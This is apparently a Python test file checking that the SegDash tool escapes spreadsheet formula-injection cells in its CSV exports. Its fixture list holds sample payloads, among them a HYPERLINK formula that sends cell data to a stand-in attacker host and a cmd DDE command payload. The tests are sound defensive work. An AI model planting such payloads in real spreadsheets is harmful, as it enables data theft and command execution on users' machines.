"""CSV formula injection: every CSV SegDash writes escapes text cells a spreadsheet would run
(= + - @, tab, carriage return) and keeps numbers numbers (core.data.csvcells)."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import tifffile

from core.data.csvcells import safe_cell, safe_row
from core.workflow.export import export_prediction, to_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\tx", "\r=1"]


def test_formula_text_is_escaped_and_numbers_are_not():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in (-0.5, -3, 0, 2.5, None, True, np.float32(-1.5), "-0.5", "+1e-3", "cell7", "", "a=b"):
        assert safe_cell(value) is value
    assert safe_row(["=1", -1, "x"]) == ["'=1", -1, "x"]
    assert safe_row({"a": "@x", "b": -2.0}) == {"a": "'@x", "b": -2.0}


def test_the_stored_prediction_csv_escapes_hostile_slice_names(ws):
    names = [*HOSTILE, "-7", "plain"]
    z = len(names)
    truth = np.zeros((8, 8), np.uint8)
    truth[2:6, 2:6] = 1
    ws.create_dataset("d", np.zeros((z, 8, 8), np.uint8), [truth] * z, ["bg", "fg"], names)
    folder = ws.predictions_dir("d", "r1")
    pred = np.zeros((z, 8, 8), np.uint8)
    pred[:, 2:6, 2:4] = 1
    tifffile.imwrite(folder / "masks.tif", pred, photometric="minisblack")
    (folder / "summary.json").write_text(json.dumps({"threshold": 0.5, "slices": []}))
    text = to_bytes(export_prediction, ws, "d", "r1", "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["name"] for r in rows) == sorted(["'" + n for n in HOSTILE] + ["-7", "plain"])
    for row in rows:  # no cell a spreadsheet would run; scores still read as numbers
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values()), row
        assert abs(float(row["dice"]) - 2 * 8 / (16 + 8)) < 1e-6 and float(row["pixel_error"]) >= 0
        assert not row["z"].startswith("'")
